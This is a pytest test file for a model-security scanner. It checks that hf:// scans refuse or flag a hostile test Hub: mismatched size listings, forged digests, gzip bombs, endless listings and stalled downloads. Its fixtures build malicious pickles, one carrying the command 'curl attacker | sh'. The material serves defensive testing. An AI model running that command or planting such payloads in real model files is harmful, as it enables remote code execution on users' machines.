"""hf:// scans against a broken or compromised Hub (issue 10, items 16-18).

Each test turns on one misbehaving mode of the test Hub (``hf_server.py``) and scans through
the real huggingface_hub-based source. Before the fix each of these scans was ALLOWED, or
never ended: the listing was trusted, answers and listings were read whole, and only the
silence between bytes was timed.
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import numpy as np
import pytest
from hf_server import HubFile, HubServer
from model_fixtures import malicious_pickle, torch_zip
from safetensors.numpy import save
from source_helpers import hf_scan, outcome, reasons

from modelsec.engine import Engine
from modelsec.policy import Outcome

MIB = 1 << 20


@pytest.fixture
def model(hub: HubServer) -> None:
    hub.add_repo(
        "acme/model",
        {
            "model.safetensors": save({"weight": np.zeros(1024, dtype=np.float32)}),
            "config.json": b'{"architectures": ["Bert"]}',
        },
    )


# --- 16: what the server says must agree --------------------------------------------------


def test_file_listed_as_empty_is_still_fetched(hub: HubServer) -> None:
    """Listed with size 0 (and the SHA-256 of nothing), served with a malicious pickle: the
    scan used to see an empty file and say ALLOWED."""
    evil = malicious_pickle("curl attacker | sh")
    hub.add_repo(
        "mallory/empty",
        {
            "weights": HubFile("weights", data=b"", served=evil, lfs=True),
            "extra.json": HubFile("extra.json", data=b"", served=b'{"auto_map": {}}', lfs=False),
        },
    )
    scanned = hf_scan(hub, "hf://mallory/empty")
    found = reasons(scanned, "MS-SRC-009")
    assert len(found) == 2, scanned.report.all_incompletes()
    assert all("listed as 0 bytes" in r or "Content-Length" in r for r in found), found
    assert outcome(scanned) == Outcome.ERROR
    assert any("/resolve/" in r.path and "weights" in r.path for r in hub.requests)


def test_file_listed_smaller_than_served(hub: HubServer) -> None:
    """Listed (size, LFS SHA-256) as a clean archive that the served file begins with; a
    loader reads the whole file, whose last end-of-central-directory is the malicious one."""
    clean = torch_zip({"0": bytes(64)})
    served = clean + torch_zip({"0": bytes(64)}, pickle_bytes=malicious_pickle())
    hub.add_repo(
        "mallory/prefix", {"pytorch_model.bin": HubFile("pytorch_model.bin", data=clean, served=served)}
    )
    scanned = hf_scan(hub, "hf://mallory/prefix")
    found = reasons(scanned, "MS-SRC-009")
    assert found and f"size as {len(served)} (Content-Range), the listing as {len(clean)}" in found[0]
    assert outcome(scanned) == Outcome.ERROR


@pytest.mark.parametrize(
    ("header", "value", "says"),
    [
        ("X-Linked-Size", "7", "(X-Linked-Size)"),
        ("X-Linked-Etag", '"' + "ab" * 32 + '"', "(X-Linked-Etag)"),
        ("X-Repo-Commit", "0" * 40, "(X-Repo-Commit)"),
        ("ETag", '"' + "cd" * 20 + '"', "(ETag)"),
    ],
)
def test_resolve_headers_must_agree_with_the_listing(
    hub: HubServer, model: None, header: str, value: str, says: str
) -> None:
    hub.resolve_headers = {header: value}
    scanned = hf_scan(hub, "hf://acme/model")
    found = reasons(scanned, "MS-SRC-009")
    assert found and all(says in r for r in found), scanned.report.all_incompletes()
    assert outcome(scanned) == Outcome.ERROR


def test_claimed_digests_never_make_fingerprints_equal(tmp_path: Path) -> None:
    """A mirror claims the LFS SHA-256 of a known-clean file for other bytes. The scan reads
    only the head of each file, so the claim is all it knows; the fingerprint must not let
    the mirror's model pass for the clean one (nor for a local copy that was hashed)."""
    clean = b'H\x00\x00\x00\x00\x00\x00\x00{"w":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}' + b"\0" * (
        MIB - 80
    )
    forged = clean[:64] + b"\xff" * (len(clean) - 64)  # same head, other bytes
    with HubServer() as hub, HubServer() as mirror:
        hub.add_repo("acme/model", {"model.safetensors": HubFile("model.safetensors", data=clean)})
        mirror.add_repo(
            "acme/model", {"model.safetensors": HubFile("model.safetensors", data=clean, served=forged)}
        )
        genuine = hf_scan(hub, "hf://acme/model").report
        claimed = hf_scan(mirror, "hf://acme/model").report
    (tmp_path / "model.safetensors").write_bytes(clean)
    local = Engine().scan_path(str(tmp_path))

    assert not genuine.all_incompletes() and not claimed.all_incompletes()
    assert genuine.files[0].sha256 is None and claimed.files[0].sha256 is None  # claims only
    assert local.files[0].sha256 == hashlib.sha256(clean).hexdigest()  # computed
    assert len({genuine.fingerprint, claimed.fingerprint, local.fingerprint}) == 3


# --- 17: bounded answers and listings ------------------------------------------------------


def test_model_info_larger_than_the_bound(hub: HubServer, model: None) -> None:
    hub.model_info_padding = 20 * MIB  # valid JSON, default bound 16 MiB
    scanned = hf_scan(hub, "hf://acme/model")
    found = reasons(scanned, "MS-SRC-016")
    assert found and "maxResponseBytes" in found[0] and "model info" in found[0]
    assert outcome(scanned) == Outcome.ERROR


def test_gzip_bomb_is_inflated_only_up_to_the_bound(hub: HubServer, model: None) -> None:
    hub.gzip_api = True
    hub.model_info_padding = 96 * MIB  # about 100 KB on the wire
    scanned = hf_scan(hub, "hf://acme/model")
    found = reasons(scanned, "MS-SRC-016")
    assert found and "after decompression" in found[0]
    assert outcome(scanned) == Outcome.ERROR


def test_gzip_answers_within_the_bound_are_read(hub: HubServer, model: None) -> None:
    hub.gzip_api = True
    scanned = hf_scan(hub, "hf://acme/model")
    assert not scanned.report.all_incompletes()
    assert outcome(scanned) == Outcome.ALLOWED


def test_tree_listing_that_never_ends(hub: HubServer, model: None) -> None:
    hub.ignore_blobs = True  # sizes come from the paginated tree API
    hub.endless_tree = True
    hub.tree_page_size = 1
    scanned = hf_scan(hub, "hf://acme/model")
    found = reasons(scanned, "MS-SRC-016")
    assert found and "more than 1000 pages (maxListPages)" in found[0]
    assert outcome(scanned) == Outcome.ERROR
    assert sum(1 for r in hub.requests if "/tree/" in r.path) == 1000


def test_tree_listing_of_endless_files(hub: HubServer, model: None) -> None:
    hub.ignore_blobs = True
    hub.endless_tree_files = True
    scanned = hf_scan(hub, "hf://acme/model")
    found = reasons(scanned, "MS-SRC-014")
    assert found and "still listing" in found[0]
    assert outcome(scanned) == Outcome.ERROR
    assert sum(1 for r in hub.requests if "/tree/" in r.path) <= 101


def test_next_page_on_another_host_is_not_followed(hub: HubServer, model: None) -> None:
    hub.ignore_blobs = True
    hub.tree_page_size = 1
    hub.tree_link_base = "http://127.0.0.2:9"
    hub.tokens["hf_token_for_the_hub_only"] = {"*"}
    scanned = hf_scan(hub, "hf://acme/model", token="hf_token_for_the_hub_only")
    found = reasons(scanned, "MS-SRC-012")
    assert found and "another host" in found[0]


# --- 18: deadlines ---------------------------------------------------------------------------


def test_api_answer_that_never_ends(hub: HubServer, model: None) -> None:
    """One byte every 50 ms: never silent for the 30 s timeout, never complete."""
    hub.trickle_api = "/api/models/"
    scanned = hf_scan(hub, "hf://acme/model", requestDeadline=0.5, maxRetries=1)
    found = reasons(scanned, "MS-SRC-007")
    assert found and "no complete answer within 0.5s (requestDeadline)" in found[0]
    assert "gave up after 2 attempts" in found[0]
    assert outcome(scanned) == Outcome.ERROR


def test_file_bytes_trickled(hub: HubServer, model: None) -> None:
    hub.trickle_files = "model.safetensors"
    scanned = hf_scan(hub, "hf://acme/model", requestDeadline=0.5, maxRetries=0)
    weights = next(f for f in scanned.report.files if f.path.endswith("model.safetensors"))
    assert [i.code for i in weights.incompletes if i.code.startswith("MS-SRC")] == ["MS-SRC-007"]
    assert "requestDeadline" in weights.incompletes[-1].reason
    assert outcome(scanned) == Outcome.ERROR


def test_scan_deadline_ends_the_scan_and_keeps_its_findings(hub: HubServer) -> None:
    files: dict[str, bytes | HubFile] = {"a.pkl": malicious_pickle("id")}
    files.update({f"part-{n}.json": json.dumps({"n": n}).encode() for n in range(12)})
    hub.add_repo("mallory/slow", files)
    hub.stall_seconds, hub.stall_match = 0.3, "/resolve/"
    scanned = hf_scan(hub, "hf://mallory/slow", scanDeadline=1.5)
    found = reasons(scanned, "MS-SRC-015")
    assert found and any("scanDeadline" in r for r in found)
    assert any("not inspected" in r for r in found)
    flagged = [f for f in scanned.report.all_findings() if f.rule == "LoadTimeCodeExecution"]
    assert flagged and flagged[0].file.endswith("a.pkl")  # what was found is kept
    assert outcome(scanned) == Outcome.BLOCKED
    assert sum(1 for r in hub.requests if "/resolve/" in r.path) < len(files)


@pytest.mark.parametrize(
    ("size", "lfs", "blob", "code", "says"),
    [
        (-1, None, None, "MS-SRC-012", "not a byte count"),
        (True, None, None, "MS-SRC-012", "not a byte count"),
        ("12", None, None, "MS-SRC-012", "not a byte count"),
        (5, {"sha256": "x" * 64, "size": 5}, None, "MS-SRC-012", "not 64 hex digits"),
        (5, {"sha256": "a" * 64, "size": 6}, None, "MS-SRC-009", "contradicts itself"),
        (5, None, "not-a-git-oid", "MS-SRC-012", "not 40 hex digits"),
    ],
)
def test_listing_entries_are_checked_for_shape(
    size: object, lfs: object, blob: object, code: str, says: str
) -> None:
    from modelsec.sources.errors import SourceFailure
    from modelsec.sources.huggingface import _listed

    with pytest.raises(SourceFailure) as err:
        _listed("model.bin", size, lfs, blob, "listing")
    assert err.value.code == code and says in err.value.message


# --- an HTTP status means what the shared table (modelsec.sources.status) says ------------


@pytest.mark.parametrize(
    ("status", "expected", "words"),
    [
        (403, "MS-SRC-004", "refused access (HTTP 403)"),
        (404, "MS-SRC-008", "not found (HTTP 404) at revision"),
        (412, "MS-SRC-009", "answered HTTP 412"),
        (400, "MS-SRC-012", "answered HTTP 400"),
    ],
)
def test_a_final_status_is_read_through_the_shared_table(
    hub: HubServer, model: None, status: int, expected: str, words: str
) -> None:
    hub.error_answers = {"/config.json": status}
    scanned = hf_scan(hub, "hf://acme/model", maxRetries=2)
    found = reasons(scanned, expected)
    assert found and words in found[0], scanned.report.all_incompletes()
    assert [r.status for r in hub.requests if r.path.endswith("/config.json")] == [status]  # not retried
    assert outcome(scanned) == Outcome.ERROR


@pytest.mark.parametrize(
    ("status", "expected"), [(408, "MS-SRC-012"), (500, "MS-SRC-012"), (429, "MS-SRC-006")]
)
def test_a_transient_status_is_retried_then_reported(
    hub: HubServer, model: None, status: int, expected: str
) -> None:
    hub.error_answers = {"/config.json": status}
    scanned = hf_scan(hub, "hf://acme/model", maxRetries=2)
    assert reasons(scanned, expected), scanned.report.all_incompletes()
    # the first attempt and two retries
    assert [r.status for r in hub.requests if r.path.endswith("/config.json")] == [status] * 3
    assert outcome(scanned) == Outcome.ERROR
